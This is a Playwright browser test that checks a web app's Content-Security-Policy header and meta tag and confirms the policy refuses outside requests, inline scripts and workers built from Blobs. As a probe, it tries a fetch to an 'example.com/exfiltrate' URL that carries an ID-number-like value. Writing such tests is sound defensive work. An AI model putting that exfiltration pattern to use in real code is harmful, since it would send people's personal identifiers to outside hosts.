/**
 * The Content-Security-Policy is there and holds: nothing leaves the laptop, no inline script, no
 * eval, in the page and in its workers. (That the whole app runs under it with no violation is
 * proved by every other browser test: test/e2e/fixtures.ts fails a test on any violation.)
 * This file uses Playwright's plain `test`: the refusals it provokes are the point.
 */
import { expect, test } from '@playwright/test';
import { CSP } from '../../vite.config';

test('the built app carries the policy; requests to another origin, inline scripts and workers from blobs are refused', async ({ page }) => {
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(e.violatedDirective));
  });
  await page.goto('/');
  await expect(page.getByLabel('Kabupaten/Kota')).toBeVisible();
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(CSP);
  const header = (await page.request.get('/')).headers()['content-security-policy'];
  expect(header).toContain("connect-src 'self' blob: data:");
  expect(header).toContain("frame-ancestors 'none'");

  const r = await page.evaluate(async () => {
    const out: Record<string, unknown> = {};
    try {
      await fetch('https://example.com/exfiltrate?nik=3273015203120004');
      out.fetch = 'sent';
    } catch {
      out.fetch = 'blocked';
    }
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.head.append(s);
    out.inline = (window as unknown as { __inline?: number }).__inline ? 'ran' : 'blocked';
    // a worker from a Blob the page made (the app's own workers are files of the build)
    const src = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
    try {
      new Worker(src);
      out.blobWorker = 'started';
    } catch {
      out.blobWorker = 'blocked';
    }
    await new Promise((r) => setTimeout(r, 300));
    out.seen = (window as unknown as { __csp: string[] }).__csp;
    return out;
  });
  expect(r).toMatchObject({ fetch: 'blocked', inline: 'blocked' });
  // eval cannot be tried from a test (DevTools evaluation is exempt); the policy must not allow it
  for (const p of [CSP, header]) expect(p).not.toMatch(/'unsafe-eval'|'unsafe-inline'/);
  // the blob worker is refused as it loads (a violation, not an exception)
  expect(r.seen).toEqual(expect.arrayContaining(['connect-src', 'script-src-elem', 'worker-src']));
});
